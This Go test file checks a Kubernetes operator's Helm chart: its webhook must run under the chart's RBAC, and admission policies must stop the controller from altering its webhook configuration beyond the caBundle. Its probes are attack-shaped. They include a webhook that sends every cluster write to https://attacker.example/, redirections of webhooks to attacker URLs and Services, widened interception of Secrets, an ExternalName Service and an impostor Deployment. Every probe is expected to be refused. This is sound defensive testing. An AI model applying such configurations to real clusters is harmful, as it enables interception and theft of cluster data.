package chart

import (
	"context"
	"testing"
	"time"

	. "github.com/onsi/gomega"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
	ctrl "sigs.k8s.io/controller-runtime"
	"sigs.k8s.io/controller-runtime/pkg/client"
	metricsserver "sigs.k8s.io/controller-runtime/pkg/metrics/server"

	"github.com/terraseed/terraseed/controller/webhook"
	"github.com/terraseed/terraseed/templates"
	"github.com/terraseed/terraseed/test/testenv"
)

// The control-plane webhook, run as the chart's ServiceAccount with the flags the chart
// passes, fills the chart's certificate Secret and webhook configuration: the chart's RBAC
// is enough for it.
func TestWebhookRunsWithTheChartsRBAC(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	release := env.Namespace(t)
	// Cluster-scoped objects get another release name, apart from the other tests'. Both
	// embedded types are served, as runWebhookAs serves them.
	objects := render(t, release, "--include-crds", "--set", "providerTypes={aws,local}")
	for _, o := range objects {
		if o.GetKind() == "ClusterRole" || o.GetKind() == "ClusterRoleBinding" || o.GetKind() == "MutatingWebhookConfiguration" {
			o.SetName("webhook-" + o.GetName())
			if o.GetKind() == "ClusterRoleBinding" {
				o.Object["roleRef"].(map[string]any)["name"] = o.GetName()
			}
			if o.GetKind() == "ClusterRole" {
				for _, rule := range o.Object["rules"].([]any) {
					names, _ := rule.(map[string]any)["resourceNames"].([]any)
					for i, name := range names {
						if name == "terraseed-controlplane" {
							names[i] = "webhook-terraseed-controlplane"
						}
					}
				}
			}
		}
		g.Expect(env.Client.Apply(ctx, client.ApplyConfigurationFromUnstructured(o), client.FieldOwner("helm"), client.ForceOwnership)).To(Succeed(), "%s %s", o.GetKind(), o.GetName())
	}
	t.Cleanup(func() {
		_ = env.Client.Delete(ctx, &admissionregistrationv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "webhook-terraseed-controlplane"}})
	})
	_, c := controllerContainer(t, objects)
	g.Expect(c.Args).To(ContainElement("--webhook-configuration=terraseed-controlplane"))

	stop := runWebhookAs(t, release, "webhook-terraseed-controlplane")

	secret := &corev1.Secret{}
	g.Expect(env.Client.Get(ctx, client.ObjectKey{Namespace: release, Name: "terraseed-webhook-cert"}, secret)).To(Succeed())
	g.Expect(secret.Data).To(HaveKey("ca.crt"))
	g.Expect(secret.Data).To(HaveKey("tls.crt"))
	config := &admissionregistrationv1.MutatingWebhookConfiguration{}
	g.Expect(env.Client.Get(ctx, client.ObjectKey{Name: "webhook-terraseed-controlplane"}, config)).To(Succeed())
	g.Expect(config.Labels).To(HaveKeyWithValue("app.kubernetes.io/managed-by", "Helm"), "the release's metadata is kept")
	var names []string
	for _, hook := range config.Webhooks {
		names = append(names, hook.Name)
		g.Expect(hook.ClientConfig.CABundle).To(Equal(secret.Data["ca.crt"]))
		g.Expect(hook.ClientConfig.Service.Namespace).To(Equal(release))
		g.Expect(hook.ClientConfig.Service.Name).To(Equal("terraseed-webhook"))
		g.Expect(*hook.ClientConfig.Service.Port).To(Equal(int32(443)))
	}
	g.Expect(names).To(ConsistOf("aws.controlplane.terraseed.io", "local.controlplane.terraseed.io"))

	// Deleted by hand, the configuration is not re-created by a restarted controller,
	// which may not create one: the chart owns it.
	stop()
	g.Expect(env.Client.Delete(ctx, config)).To(Succeed())
	runWebhookAs(t, release, "webhook-terraseed-controlplane")
	g.Expect(apierrors.IsNotFound(env.Client.Get(ctx, client.ObjectKey{Name: config.Name}, config))).To(BeTrue())
}

// runWebhookAs runs the control-plane webhook as the chart's ServiceAccount, for the
// configuration of that name and both embedded types, until the test ends or the returned
// function is called.
func runWebhookAs(t *testing.T, release, configuration string) (stop func()) {
	t.Helper()
	g := NewWithT(t)
	registry, err := templates.NewRegistry()
	g.Expect(err).NotTo(HaveOccurred())
	w, err := webhook.New(webhook.Options{
		Port: testenv.FreePort(t), CertDir: t.TempDir(), Namespace: release, ServiceName: "terraseed-webhook",
		SecretName: "terraseed-webhook-cert", ConfigurationName: configuration,
	})
	g.Expect(err).NotTo(HaveOccurred())
	mgr, err := ctrl.NewManager(serviceAccountConfig(release, "terraseed"), ctrl.Options{
		Scheme: env.Scheme, Metrics: metricsserver.Options{BindAddress: "0"}, HealthProbeBindAddress: "0", WebhookServer: w.Server(),
	})
	g.Expect(err).NotTo(HaveOccurred())
	ctx, cancel := context.WithCancel(context.Background())
	g.Expect(w.SetupWithManager(ctx, mgr, registry, registry.Types())).To(Succeed())
	done := make(chan error, 1)
	go func() { done <- mgr.Start(ctx) }()
	stopped := false
	stop = func() {
		if !stopped {
			stopped = true
			cancel()
			g.Expect(<-done).To(Succeed())
		}
	}
	t.Cleanup(stop)
	select {
	case <-w.Ready():
	case err := <-done:
		t.Fatalf("the manager stopped: %v", err)
	case <-time.After(time.Minute):
		t.Fatal("the webhook's certificate was not ready within a minute")
	}
	return stop
}

// The controller updates its own webhook configuration: at start with one webhook per
// served type with mutations, then with the CA that cert-controller rotates. Whatever else
// it changed could send gardenlet's writes elsewhere or widen what is sent. Tried as the
// controller's ServiceAccount with the chart's policies in force: the webhook's own writes
// pass, a caBundle changes, and each other change of <release>-controller-webhook's is
// refused, as is rerouting the webhook's Service (<release>-controller-writes).
func TestControllerChangesOnlyTheCABundleOfItsWebhooks(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	release := env.Namespace(t)
	installRenamed(t, "cabundle-", release, "--set", "providerTypes={aws,local}")
	const name = "cabundle-terraseed-controlplane"
	controller := impersonate(t, release, "terraseed")
	// The scenario, the probe that the policy is in force: every write of the seed
	// sent to a URL outside it.
	everything := admissionregistrationv1.MutatingWebhook{
		Name:         "everything.attacker.example",
		ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: ptr.To("https://attacker.example/")},
		Rules: []admissionregistrationv1.RuleWithOperations{{
			Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.OperationAll},
			Rule:       admissionregistrationv1.Rule{APIGroups: []string{"*"}, APIVersions: []string{"*"}, Resources: []string{"*/*"}},
		}},
		SideEffects:             ptr.To(admissionregistrationv1.SideEffectClassNone),
		AdmissionReviewVersions: []string{"v1"},
	}
	const unserved = ": the controller registers only <type>.controlplane.terraseed.io for the served types (providerTypes: aws, local)"
	g.Eventually(func() error {
		config := &admissionregistrationv1.MutatingWebhookConfiguration{}
		if err := controller.Get(ctx, client.ObjectKey{Name: name}, config); err != nil {
			return err
		}
		config.Webhooks = append(config.Webhooks, everything)
		return controller.Update(ctx, config, client.DryRunAll)
	}).WithTimeout(30 * time.Second).WithPolling(200 * time.Millisecond).Should(MatchError(ContainSubstring(
		"MutatingWebhookConfiguration " + name + ": webhook everything.attacker.example" + unserved)))

	// The webhook registers its webhooks and cert-controller writes their caBundle.
	runWebhookAs(t, release, name)()
	secret := &corev1.Secret{}
	g.Expect(env.Client.Get(ctx, client.ObjectKey{Namespace: release, Name: "terraseed-webhook-cert"}, secret)).To(Succeed())
	registered := &admissionregistrationv1.MutatingWebhookConfiguration{}
	g.Expect(env.Client.Get(ctx, client.ObjectKey{Name: name}, registered)).To(Succeed())
	g.Expect(registered.Webhooks).To(HaveLen(2))
	for _, hook := range registered.Webhooks {
		g.Expect(hook.ClientConfig.CABundle).To(Equal(secret.Data["ca.crt"]))
	}

	// change applies edit to the configuration as the controller reads it and updates it.
	change := func(edit func(*admissionregistrationv1.MutatingWebhookConfiguration)) error {
		config := &admissionregistrationv1.MutatingWebhookConfiguration{}
		g.Expect(controller.Get(ctx, client.ObjectKey{Name: name}, config)).To(Succeed())
		edit(config)
		return controller.Update(ctx, config)
	}
	aws := func(edit func(*admissionregistrationv1.MutatingWebhook)) func(*admissionregistrationv1.MutatingWebhookConfiguration) {
		return func(c *admissionregistrationv1.MutatingWebhookConfiguration) {
			for i := range c.Webhooks {
				if c.Webhooks[i].Name == "aws.controlplane.terraseed.io" {
					edit(&c.Webhooks[i])
				}
			}
		}
	}
	const (
		prefix      = "MutatingWebhookConfiguration " + name + ": webhook aws.controlplane.terraseed.io: "
		redirected  = prefix + "clientConfig: the controller changes only the caBundle"
		widened     = prefix + "the controller registers webhooks for CREATE and UPDATE of apps/v1 deployments (Namespaced) only"
		reselected  = prefix + "the controller registers webhooks that select only the namespaces labelled shoot.gardener.cloud/provider=<type>"
		metadataMsg = "MutatingWebhookConfiguration " + name + ": metadata: the controller changes only its webhooks"
	)

	// What the code does: a rotated CA, and a served type's webhook dropped (its provider
	// without mutations) and registered again.
	g.Expect(change(func(c *admissionregistrationv1.MutatingWebhookConfiguration) {
		for i := range c.Webhooks {
			c.Webhooks[i].ClientConfig.CABundle = append(c.Webhooks[i].ClientConfig.CABundle, '\n')
		}
	})).To(Succeed(), "a new caBundle")
	g.Expect(change(func(c *admissionregistrationv1.MutatingWebhookConfiguration) { c.Webhooks = c.Webhooks[:1] })).To(Succeed())
	g.Expect(change(func(c *admissionregistrationv1.MutatingWebhookConfiguration) { c.Webhooks = registered.Webhooks })).To(Succeed())

	for _, c := range []struct {
		what string
		edit func(*admissionregistrationv1.MutatingWebhookConfiguration)
		want string
	}{
		{"an outside URL", aws(func(w *admissionregistrationv1.MutatingWebhook) {
			w.ClientConfig.Service, w.ClientConfig.URL = nil, ptr.To("https://attacker.example/controlplane/aws")
		}), redirected},
		{"another Service", aws(func(w *admissionregistrationv1.MutatingWebhook) { w.ClientConfig.Service.Name = "attacker" }), redirected},
		{"another namespace's Service", aws(func(w *admissionregistrationv1.MutatingWebhook) { w.ClientConfig.Service.Namespace = "kube-system" }), redirected},
		{"another port", aws(func(w *admissionregistrationv1.MutatingWebhook) { w.ClientConfig.Service.Port = ptr.To(int32(8443)) }), redirected},
		{"another type's path", aws(func(w *admissionregistrationv1.MutatingWebhook) {
			w.ClientConfig.Service.Path = ptr.To("/controlplane/local")
		}), redirected},
		{"Secrets intercepted", aws(func(w *admissionregistrationv1.MutatingWebhook) {
			w.Rules[0].Resources = append(w.Rules[0].Resources, "secrets")
		}), widened},
		{"pods intercepted", aws(func(w *admissionregistrationv1.MutatingWebhook) {
			w.Rules = append(w.Rules, admissionregistrationv1.RuleWithOperations{
				Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create},
				Rule:       admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods"}},
			})
		}), widened},
		{"deletions intercepted", aws(func(w *admissionregistrationv1.MutatingWebhook) {
			w.Rules[0].Operations = append(w.Rules[0].Operations, admissionregistrationv1.Delete)
		}), widened},
		{"failurePolicy Ignore", aws(func(w *admissionregistrationv1.MutatingWebhook) {
			w.FailurePolicy = ptr.To(admissionregistrationv1.Ignore)
		}), widened},
		{"matchPolicy Exact", aws(func(w *admissionregistrationv1.MutatingWebhook) {
			w.MatchPolicy = ptr.To(admissionregistrationv1.Exact)
		}), widened},
		{"sideEffects", aws(func(w *admissionregistrationv1.MutatingWebhook) {
			w.SideEffects = ptr.To(admissionregistrationv1.SideEffectClassNoneOnDryRun)
		}), widened},
		{"timeoutSeconds", aws(func(w *admissionregistrationv1.MutatingWebhook) { w.TimeoutSeconds = ptr.To(int32(30)) }), widened},
		{"admissionReviewVersions", aws(func(w *admissionregistrationv1.MutatingWebhook) {
			w.AdmissionReviewVersions = []string{"v1", "v1beta1"}
		}), widened},
		{"reinvocationPolicy", aws(func(w *admissionregistrationv1.MutatingWebhook) {
			w.ReinvocationPolicy = ptr.To(admissionregistrationv1.IfNeededReinvocationPolicy)
		}), widened},
		{"matchConditions", aws(func(w *admissionregistrationv1.MutatingWebhook) {
			w.MatchConditions = []admissionregistrationv1.MatchCondition{{Name: "all", Expression: "true"}}
		}), widened},
		{"every namespace", aws(func(w *admissionregistrationv1.MutatingWebhook) { w.NamespaceSelector = &metav1.LabelSelector{} }), reselected},
		{"another type's namespaces", aws(func(w *admissionregistrationv1.MutatingWebhook) {
			w.NamespaceSelector.MatchExpressions[0].Values = []string{"local"}
		}), reselected},
		{"every Deployment", aws(func(w *admissionregistrationv1.MutatingWebhook) { w.ObjectSelector = &metav1.LabelSelector{} }), reselected},
		{"another role", aws(func(w *admissionregistrationv1.MutatingWebhook) {
			w.ObjectSelector.MatchExpressions[0].Values = append(w.ObjectSelector.MatchExpressions[0].Values, "gardener-resource-manager")
		}), reselected},
		{"a webhook of a type not served", func(c *admissionregistrationv1.MutatingWebhookConfiguration) {
			w := *c.Webhooks[0].DeepCopy()
			w.Name = "other.controlplane.terraseed.io"
			c.Webhooks = append(c.Webhooks, w)
		}, "webhook other.controlplane.terraseed.io" + unserved},
		{"a webhook of its own", func(c *admissionregistrationv1.MutatingWebhookConfiguration) {
			c.Webhooks = append(c.Webhooks, everything)
		}, "webhook everything.attacker.example" + unserved},
		{"labels", func(c *admissionregistrationv1.MutatingWebhookConfiguration) {
			c.Labels["app.kubernetes.io/managed-by"] = "terraseed"
		}, metadataMsg},
		{"annotations", func(c *admissionregistrationv1.MutatingWebhookConfiguration) {
			c.Annotations = map[string]string{"meta.helm.sh/release-name": "other"}
		}, metadataMsg},
		{"a finalizer", func(c *admissionregistrationv1.MutatingWebhookConfiguration) {
			c.Finalizers = []string{"terraseed.io/keep"}
		}, metadataMsg},
		{"an owner", func(c *admissionregistrationv1.MutatingWebhookConfiguration) {
			c.OwnerReferences = []metav1.OwnerReference{{APIVersion: "v1", Kind: "Namespace", Name: release, UID: "0"}}
		}, metadataMsg},
	} {
		g.Expect(change(c.edit)).To(MatchError(ContainSubstring(c.want)), c.what)
	}
	current := &admissionregistrationv1.MutatingWebhookConfiguration{}
	g.Expect(env.Client.Get(ctx, client.ObjectKey{Name: name}, current)).To(Succeed())
	g.Expect(current.Webhooks).To(Equal(registered.Webhooks), "nothing but the caBundle changed, and back")

	// The Service the webhooks call stays the chart's: no ExternalName, no endpoints or
	// pods of the controller's behind it.
	service := &corev1.Service{}
	g.Expect(controller.Get(ctx, client.ObjectKey{Namespace: release, Name: "terraseed-webhook"}, service)).To(Succeed())
	service.Spec.Type, service.Spec.ExternalName = corev1.ServiceTypeExternalName, "attacker.example"
	routes := "the controller writes no Services, Endpoints, EndpointSlices or workloads in its own namespace, " + release
	g.Expect(controller.Update(ctx, service)).To(MatchError(ContainSubstring("Service " + release + "/terraseed-webhook: " + routes)))
	g.Expect(controller.Delete(ctx, service)).To(MatchError(ContainSubstring(routes)))
	g.Expect(controller.Create(ctx, &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: release, Name: "other"},
		Spec: corev1.ServiceSpec{Ports: []corev1.ServicePort{{Port: 443}}}})).To(MatchError(ContainSubstring(routes)))
	labels := map[string]string{"app.kubernetes.io/name": "terraseed", "app.kubernetes.io/instance": "terraseed"}
	g.Expect(controller.Create(ctx, &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Namespace: release, Name: "impostor"},
		Spec: appsv1.DeploymentSpec{
			Selector: &metav1.LabelSelector{MatchLabels: labels},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels}, Spec: corev1.PodSpec{
				AutomountServiceAccountToken: ptr.To(false),
				Containers:                   []corev1.Container{{Name: "webhook", Image: "registry.k8s.io/e2e-test-images/agnhost:2.53"}},
			}},
		},
	})).To(MatchError(ContainSubstring("Deployment " + release + "/impostor: " + routes)))
	// Its certificate Secret it still writes there.
	g.Expect(env.Client.Get(ctx, client.ObjectKeyFromObject(secret), secret)).To(Succeed())
	secret.Annotations = map[string]string{"rotated": "now"}
	g.Expect(controller.Update(ctx, secret)).To(Succeed())
}
